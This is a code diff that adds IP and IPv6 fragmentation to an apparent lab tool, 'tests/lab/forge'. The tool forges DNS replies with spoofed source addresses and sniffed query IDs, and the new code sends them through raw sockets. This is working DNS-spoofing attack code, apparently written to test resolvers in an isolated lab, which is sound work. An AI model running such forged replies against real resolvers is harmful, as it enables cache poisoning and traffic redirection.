@@ -117,6 +117,30 @@ def build_reply(args, qname, qtype, qid, query):
     return r.to_wire()
 
 
+def send_fragments(args, src, dst, dport, wire):
+    """The reply as IP fragments of args.fragment bytes of the UDP datagram each (the
+    first one then holds the UDP header and at most a few DNS bytes). The UDP checksum
+    covers the whole datagram, so the receiver accepts what it reassembles. scapy only
+    cuts the fragments; a raw IPPROTO_RAW socket sends each with its IP header as given,
+    and the kernel routes it and resolves the next hop in the attacker's namespace."""
+    from scapy.all import IP, IPv6, IPv6ExtHdrFragment, UDP, Raw, fragment, fragment6
+    if ":" in src:
+        fam = socket.AF_INET6
+        pkt = IPv6(src=src, dst=dst) / IPv6ExtHdrFragment(id=os.getpid()) / UDP(sport=args.sport, dport=dport) / Raw(wire)
+        # fragment6 takes the size of each fragment packet: the fixed header, the
+        # fragment header and the fragment's bytes.
+        frags = fragment6(IPv6(bytes(pkt)), 40 + 8 + args.fragment)
+    else:
+        fam = socket.AF_INET
+        pkt = IP(src=src, dst=dst, id=os.getpid() & 0xFFFF) / UDP(sport=args.sport, dport=dport) / Raw(wire)
+        frags = fragment(IP(bytes(pkt)), fragsize=args.fragment)
+    s = socket.socket(fam, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    for _ in range(args.count):
+        for f in frags:
+            s.sendto(bytes(f), (dst, 0))
+    s.close()
+
+
 def main():
     ap = argparse.ArgumentParser(prog="tests/lab/forge")
     ap.add_argument("--qname", required=True)
@@ -136,7 +160,12 @@ def main():
     ap.add_argument("--sniff", action="store_true", help="wait for the query and copy its ID and port")
     ap.add_argument("--timeout", type=float, default=5.0, help="--sniff: give up after this many seconds")
     ap.add_argument("--iface", default="eth0")
+    ap.add_argument("--fragment", type=int, default=0, metavar="BYTES",
+                    help="send as IP fragments carrying BYTES (a multiple of 8) of the UDP datagram each")
     args = ap.parse_args()
+    if args.fragment and (args.fragment % 8 or not 8 <= args.fragment <= 1024):
+        print("forge: --fragment must be a multiple of 8 in 8..1024", file=sys.stderr)
+        return 2
 
     sfx = "IP6" if args.ipv6 else "IP4"
     src = args.src or os.environ.get("RESOLVER_" + sfx)
@@ -164,6 +193,11 @@ def main():
         qid, dport = args.id, args.dport
     wire = build_reply(args, qname, qtype, qid, query)
 
+    if args.fragment:
+        send_fragments(args, src, dst, dport, wire)
+        log("; forged %d reply(s) in %d-byte fragments %s:%d -> %s:%d id=%d %s %s" % (
+            args.count, args.fragment, src, args.sport, dst, dport, qid, qname, dns.rdatatype.to_text(qtype)))
+        return 0
     fam = socket.AF_INET6 if ":" in src else socket.AF_INET
     s = socket.socket(fam, socket.SOCK_DGRAM)
     if fam == socket.AF_INET6:
